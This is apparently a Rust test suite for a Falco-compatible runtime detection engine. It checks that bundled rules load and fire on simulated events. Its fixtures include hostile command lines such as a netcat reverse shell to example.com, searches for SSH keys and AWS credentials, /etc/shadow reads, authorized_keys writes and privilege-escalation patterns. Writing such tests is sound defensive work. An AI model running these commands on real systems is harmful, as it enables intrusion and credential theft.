//! The rules that come with the project, and Falco's: they load, and ours fire on what they are for.

mod common;

use common::{CREATE, Exec, FROM_MEMFD, READ, TRUNCATE, UPPER_LAYER, WRITE, World};
use event::EventType;
use rules::{Settings, Version, report};

fn read(name: &str) -> String {
    let path = format!("{}/../../rules/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|err| panic!("{path}: {err}"))
}

fn world() -> World {
    let stable = read("peregrine_rules.yaml");
    let incubating = read("peregrine_rules_incubating.yaml");
    let sandbox = read("peregrine_rules_sandbox.yaml");
    World::new(common::ruleset(
        &[&stable, &incubating, &sandbox],
        &Settings::default(),
    ))
}

#[test]
fn our_rules_load_without_a_warning_alone_and_together() {
    let stable = read("peregrine_rules.yaml");
    let incubating = read("peregrine_rules_incubating.yaml");
    let sandbox = read("peregrine_rules_sandbox.yaml");
    let sets: [&[&str]; 4] = [
        &[&stable],
        &[&stable, &incubating],
        &[&stable, &sandbox],
        &[&stable, &incubating, &sandbox],
    ];
    for set in sets {
        let loaded = common::load_texts(set, &Settings::default());
        assert_eq!(report::human(&loaded, false), "");
        let ruleset = loaded.ruleset.unwrap();
        for rule in ruleset.rules() {
            assert!(
                !rule.events().is_all(),
                "{} names no event type",
                rule.name()
            );
            let tags = rule.tags();
            assert!(
                tags.iter().any(|tag| tag.starts_with("maturity_")),
                "{}",
                rule.name()
            );
            assert!(
                tags.iter().any(|tag| tag.starts_with("mitre_")),
                "{}",
                rule.name()
            );
        }
    }
}

#[test]
fn falcos_rules_load_unchanged() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/conformance/rules/falco_rules.yaml"
    );
    let Ok(text) = std::fs::read_to_string(path) else {
        eprintln!("skipped: {path} is not there");
        return;
    };
    let loaded = common::load_texts(&[&text], &Settings::default());
    assert_eq!(report::human(&loaded, false), "");
    assert_eq!(loaded.ruleset.unwrap().rules().len(), 25);
    let old = Settings {
        engine: Version::new(0, 56, 0),
        plugins: Vec::new(),
        ..Settings::default()
    };
    let loaded = common::load_texts(&[&text], &old);
    assert_eq!(
        loaded.diagnostics.len(),
        2,
        "{}",
        report::human(&loaded, false)
    );
}

/// Names of a process that runs what `path` names.
fn run(world: &mut World, exec: &Exec<'_>) -> Vec<String> {
    world.process(exec.pid, exec.parent, "event-generator", &[]);
    world.exec(exec)
}

#[test]
fn programs_that_are_run() {
    let container = |exec: Exec<'static>| Exec {
        in_container: true,
        ..exec
    };
    let server = |exec: Exec<'static>| Exec { parent: 50, ..exec };
    let daemon = |exec: Exec<'static>| Exec { uid: 1, ..exec };
    for (rule, exec) in [
        (
            "Search Private Keys or Passwords",
            Exec::new(
                "/usr/bin/find",
                &["/tmp", "-maxdepth", "1", "-iname", "id_rsa"],
            ),
        ),
        (
            "Find AWS Credentials",
            Exec::new(
                "/usr/bin/find",
                &["/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"],
            ),
        ),
        (
            "Run shell untrusted",
            server(Exec::new("/bin/sh", &["-c", "ls > /dev/null"])),
        ),
        (
            "System user interactive",
            daemon(Exec::new("/bin/login", &[])),
        ),
        (
            "Terminal shell in container",
            Exec {
                tty: 34816,
                parent: 60,
                ..container(Exec::new("/bin/sh", &[]))
            },
        ),
        (
            "Execution from /dev/shm",
            Exec::new("/bin/sh", &["-c", "/dev/shm/falco-event-generator.sh"]),
        ),
        ("Execution from /dev/shm", Exec::new("/dev/shm/tool", &[])),
        (
            "Execution from /dev/shm",
            Exec {
                cwd: "/dev/shm",
                exe: "./tool",
                ..Exec::new("/dev/shm/tool", &[])
            },
        ),
        (
            "Fileless execution via memfd_create",
            Exec {
                flags: FROM_MEMFD,
                ..Exec::new("/memfd:program", &["run"])
            },
        ),
        (
            "Drop and execute new binary in container",
            Exec {
                flags: UPPER_LAYER,
                ..container(Exec::new("/bin/x", &[]))
            },
        ),
        (
            "Netcat Remote Code Execution in Container",
            container(Exec::new(
                "/usr/bin/nc",
                &["-e", "/bin/sh", "example.com", "22"],
            )),
        ),
        (
            "Launch Suspicious Network Tool on Host",
            Exec::new("/usr/bin/nmap", &["-sn", "172.17.0.1/32"]),
        ),
        (
            "Debugfs Launched in Privileged Container",
            container(Exec::new("/sbin/debugfs", &["-V"])),
        ),
        (
            "Mount Launched in Privileged Container",
            container(Exec::new("/bin/mount", &["-o"])),
        ),
        (
            "Remove Bulk Data from Disk",
            Exec::new("/usr/bin/shred", &["-u", "/tmp/x"]),
        ),
    ] {
        let mut world = world();
        world
            .process(50, 1, "httpd", &[])
            .process(60, 1, "runc", &[]);
        assert_eq!(
            run(&mut world, &exec),
            [rule],
            "{} {:?}",
            exec.path,
            exec.args
        );
    }
}

#[test]
fn programs_of_the_other_files() {
    let container = |exec: Exec<'static>| Exec {
        in_container: true,
        ..exec
    };
    for (rule, exec) in [
        (
            "DB program spawned process",
            Exec {
                parent: 50,
                ..Exec::new("/bin/ls", &[])
            },
        ),
        ("Schedule Cron Jobs", Exec::new("/usr/bin/crontab", &["-l"])),
        (
            "User mgmt binaries",
            Exec {
                parent: 60,
                ..Exec::new("/tmp/x/vipw", &[])
            },
        ),
        (
            "Launch Package Management Process in Container",
            container(Exec::new("/usr/bin/apt-get", &["--version"])),
        ),
        (
            "Launch Suspicious Network Tool in Container",
            container(Exec::new("/usr/bin/nmap", &["-sn", "10.0.0.0/8"])),
        ),
        (
            "Launch Remote File Copy Tools in Container",
            container(Exec::new("/usr/bin/scp", &[])),
        ),
        (
            "Launch Ingress Remote File Copy Tools in Container",
            container(Exec::new("/usr/bin/wget", &["-V"])),
        ),
        (
            "Program run with disallowed http proxy env",
            Exec {
                env: &["HTTP_PROXY=http://proxy"],
                ..Exec::new("/usr/bin/curl", &["http://example.com"])
            },
        ),
        (
            "Potential Local Privilege Escalation via Environment Variables Misuse",
            Exec {
                env: &["GLIBC_TUNABLES=x"],
                ..Exec::new("/bin/sh", &["-c", "id"])
            },
        ),
        (
            "Kubernetes Client Tool Launched in Container",
            container(Exec::new("/tmp/x/kubectl", &[])),
        ),
        (
            "Decoding Payload in Container",
            container(Exec::new("/bin/echo", &["ZWNobw==", "|", "base64", "-d"])),
        ),
        (
            "Detect crypto miners using the Stratum protocol",
            Exec::new("/bin/echo", &["-o stratum+tcp", "-u user", "-p pass"]),
        ),
        (
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
            Exec::new("/usr/bin/pkexec", &[]),
        ),
        (
            "Sudo Potential Privilege Escalation",
            Exec::new("/usr/bin/sudoedit", &["-u", "daemon", "-s", "ls\\"]),
        ),
    ] {
        let mut world = world();
        world
            .process(50, 1, "mysqld", &[])
            .process(60, 1, "event-generator", &[]);
        assert_eq!(
            run(&mut world, &exec),
            [rule],
            "{} {:?}",
            exec.path,
            exec.args
        );
    }
}

#[test]
fn files_and_calls_of_the_other_files() {
    let mut world = world();
    world.process(100, 1, "event-generator", &[]);
    world.process_with(102, 1, "cat", &[], World::in_container);
    world.process_with(103, 1, "child", &[], |thread| thread.uid = 1);
    world
        .process(104, 1, "sha1sum", &[])
        .tcp(104, 4, ("10.0.0.1", 4000), ("10.2.3.4", 8192));
    world
        .process(105, 1, "lua", &[])
        .tcp(105, 4, ("10.0.0.1", 4000), ("10.2.3.4", 80));
    world.process_with(106, 1, "nc", &[], World::in_container);
    world.tcp(106, 4, ("10.0.0.1", 4000), ("169.254.169.254", 80));
    let new = WRITE | CREATE | TRUNCATE;
    for (tid, path, flags, rule) in [
        (
            100,
            "/home/x/.ssh/authorized_keys",
            READ | new,
            "Adding ssh keys to authorized_keys",
        ),
        (
            100,
            "/home/x/.ssh/known_hosts",
            READ | new,
            "Read ssh information",
        ),
        (
            102,
            "/proc/self/environ",
            READ,
            "Read environment variable from /proc files",
        ),
        (
            100,
            "/tmp/x/.bashrc",
            new,
            "Modify Shell Configuration File",
        ),
        (100, "/tmp/x/.bashrc", READ, "Read Shell Configuration File"),
        (100, "/dev/created", READ | new, "Create files below dev"),
        (102, "/proc/self/fd/1", WRITE, "Modify Container Entrypoint"),
        (100, "/etc/created", new, "Write below etc"),
        (100, "/lib/created", new, "Write below monitored dir"),
        (100, "/root/created", new, "Write below root"),
        (100, "/var/lib/rpm/created", new, "Write below rpm database"),
        (100, "/etc/cron.d/x", new, "Schedule Cron Jobs"),
    ] {
        assert_eq!(world.open(tid, path, flags), [rule], "{path}");
    }
    let mut check = |rule: &str, event_type, tid, fill: &dyn Fn(&mut event::Encoder)| {
        assert_eq!(world.names(event_type, tid, |event| fill(event)), [rule]);
    };
    check(
        "Container Drift Detected (open+create)",
        EventType::SYSCALL_OPENAT_2_X,
        102,
        &|event| {
            event
                .i64(7)
                .i64(-100)
                .str("/tmp/x")
                .u32(new)
                .u32(0o755)
                .u32(0)
                .u64(0);
        },
    );
    check(
        "Container Drift Detected (chmod)",
        EventType::SYSCALL_FCHMODAT_X,
        102,
        &|event| {
            event.i64(0).i64(-100).str("/tmp/x").u32(0o755);
        },
    );
    check(
        "Set Setuid or Setgid bit",
        EventType::SYSCALL_FCHMODAT_X,
        100,
        &|event| {
            event.i64(0).i64(-100).str("/tmp/x").u32(0o4755);
        },
    );
    check(
        "Delete or rename shell history",
        EventType::SYSCALL_UNLINKAT_2_X,
        100,
        &|event| {
            event.i64(0).i64(-100).str("/tmp/x/ash_history").u32(0);
        },
    );
    check(
        "Mkdir binary dirs",
        EventType::SYSCALL_MKDIRAT_X,
        100,
        &|event| {
            event.i64(-13).i64(-100).str("/bin/x").u32(0o755);
        },
    );
    check(
        "Modify binary dirs",
        EventType::SYSCALL_RENAMEAT_X,
        100,
        &|event| {
            event
                .i64(0)
                .i64(-100)
                .str("/bin/true")
                .i64(-100)
                .str("/bin/true.x");
        },
    );
    check(
        "Create Hidden Files or Directories",
        EventType::SYSCALL_MKDIRAT_X,
        100,
        &|event| {
            event.i64(0).i64(-100).str("/tmp/.falco-x").u32(0o755);
        },
    );
    check(
        "Change namespace privileges via unshare",
        EventType::SYSCALL_UNSHARE_X,
        102,
        &|event| {
            event.i64(0).u32(0);
        },
    );
    check(
        "Non sudo setuid",
        EventType::SYSCALL_SETUID_X,
        103,
        &|event| {
            event.i64(-1).u32(0);
        },
    );
    check(
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        EventType::SYSCALL_USERFAULTFD_X,
        103,
        &|event| {
            event.i64(-1).u32(0);
        },
    );
    let connect = |event: &mut event::Encoder| {
        event.i64(0).empty().i64(4).empty();
    };
    check(
        "System procs network activity",
        EventType::SOCKET_CONNECT_X,
        104,
        &connect,
    );
    check(
        "Interpreted procs outbound network activity",
        EventType::SOCKET_CONNECT_X,
        105,
        &connect,
    );
    check(
        "Interpreted procs inbound network activity",
        EventType::SOCKET_LISTEN_X,
        105,
        &|event| {
            event.i64(0).i64(4).u32(16);
        },
    );
    check(
        "Contact EC2 Instance Metadata Service From Container",
        EventType::SOCKET_CONNECT_X,
        106,
        &connect,
    );
}

#[test]
fn programs_that_are_harmless() {
    for exec in [
        Exec::new("/usr/bin/find", &["/tmp", "-name", "*.o"]),
        Exec::new("/bin/sh", &["-c", "ls"]),
        Exec::new("/usr/bin/cat", &["/dev/shm/x"]),
        Exec::new("/usr/bin/mount", &["/mnt"]),
        Exec {
            in_container: true,
            ..Exec::new("/usr/bin/nc", &["-z", "example.com", "22"])
        },
    ] {
        let mut world = World::new(common::ruleset(
            &[&read("peregrine_rules.yaml")],
            &Settings::default(),
        ));
        assert_eq!(
            run(&mut world, &exec),
            Vec::<String>::new(),
            "{} {:?}",
            exec.path,
            exec.args
        );
    }
}

#[test]
fn files_that_are_opened() {
    let mut world = world();
    world
        .process(100, 1, "event-generator", &["run"])
        .process(101, 1, "httpd", &[]);
    world
        .process_with(102, 1, "sh", &[], World::in_container)
        .process(103, 1, "sshd", &[]);
    world
        .process(104, 1, "dpkg", &[])
        .process(105, 104, "sh", &[])
        .process(106, 1, "rsyslogd", &[]);
    let new = WRITE | CREATE | TRUNCATE;
    for (tid, path, flags, expected) in [
        (
            100,
            "/etc/shadow",
            READ,
            Some("Read sensitive file untrusted"),
        ),
        (
            100,
            "/etc/pam.d/su",
            READ,
            Some("Read sensitive file untrusted"),
        ),
        (103, "/etc/shadow", READ, None),
        (105, "/etc/shadow", READ, None),
        (
            101,
            "/etc/shadow",
            READ,
            Some("Read sensitive file trusted after startup"),
        ),
        (
            100,
            "/etc/../etc/../etc/shadow",
            READ,
            Some("Directory traversal monitored file read"),
        ),
        (100, "/tmp/x/syslog", new, Some("Clear Log Activities")),
        (106, "/var/log/syslog", new, None),
        (100, "/var/log/syslog", WRITE, None),
        (
            102,
            "/release_agent",
            new,
            Some("Detect release_agent File Container Escapes"),
        ),
        (100, "/bin/x", READ | new, Some("Write below binary dir")),
        (100, "/usr/bin/x", new, Some("Write below binary dir")),
        (100, "/usr/sbin/deep/x", new, Some("Write below binary dir")),
        (104, "/usr/bin/x", new, None),
        (100, "/bin/ls", READ, None),
        (100, "/opt/binary", new, None),
    ] {
        let found = world.open(tid, path, flags);
        assert_eq!(found, Vec::from_iter(expected), "{path}");
    }
}

#[test]
fn calls_that_are_made() {
    let mut world = world();
    world
        .process(100, 1, "event-generator", &[])
        .process(101, 1, "runc", &[]);
    world.process_with(102, 1, "nc", &[], World::in_container);
    world
        .process(103, 1, "ssh", &["-p", "443"])
        .tcp(103, 4, ("10.0.0.1", 4000), ("10.0.0.2", 443));
    world.tcp(102, 4, ("10.0.0.1", 4000), ("10.0.0.2", 443));
    let mut check = |rule: Option<&str>, event_type, tid, fill: &dyn Fn(&mut event::Encoder)| {
        let found = world.names(event_type, tid, |event| fill(event));
        assert_eq!(found, Vec::from_iter(rule), "{event_type:?} {tid}");
    };
    check(
        Some("Change thread namespace"),
        EventType::SYSCALL_SETNS_X,
        100,
        &|event| {
            event.i64(-9).i64(0).u32(0);
        },
    );
    check(None, EventType::SYSCALL_SETNS_X, 101, &|event| {
        event.i64(0).i64(3).u32(0);
    });
    check(
        Some("Create Hardlink Over Sensitive Files"),
        EventType::SYSCALL_LINKAT_2_X,
        100,
        &|event| {
            event
                .i64(0)
                .i64(-100)
                .str("/etc/shadow")
                .i64(-100)
                .str("/tmp/x")
                .u32(0);
        },
    );
    check(
        Some("Create Symlink Over Sensitive Files"),
        EventType::SYSCALL_SYMLINKAT_X,
        100,
        &|event| {
            event.i64(0).str("/etc").i64(-100).str("/tmp/etc_link");
        },
    );
    check(None, EventType::SYSCALL_SYMLINKAT_X, 100, &|event| {
        event
            .i64(0)
            .str("/etc/hosts")
            .i64(-100)
            .str("/tmp/etc_link");
    });
    for (request, rule) in [
        (1, "PTRACE anti-debug attempt"),
        (11, "PTRACE attached to process"),
    ] {
        check(Some(rule), EventType::SYSCALL_PTRACE_X, 100, &|event| {
            event
                .i64(0)
                .bytes(&[0; 9])
                .bytes(&[0; 9])
                .u16(request)
                .i64(7);
        });
    }
    check(
        Some("Packet socket created in container"),
        EventType::SOCKET_SOCKET_X,
        102,
        &|event| {
            event.i64(5).u32(17).u32(3).u32(3).u32(0);
        },
    );
    check(None, EventType::SOCKET_SOCKET_X, 102, &|event| {
        event.i64(5).u32(2).u32(1).u32(0).u32(0);
    });
    check(
        Some("Redirect STDOUT/STDIN to Network Connection in Container"),
        EventType::SYSCALL_DUP2_X,
        102,
        &|event| {
            event.i64(1).i64(4).i64(1);
        },
    );
}
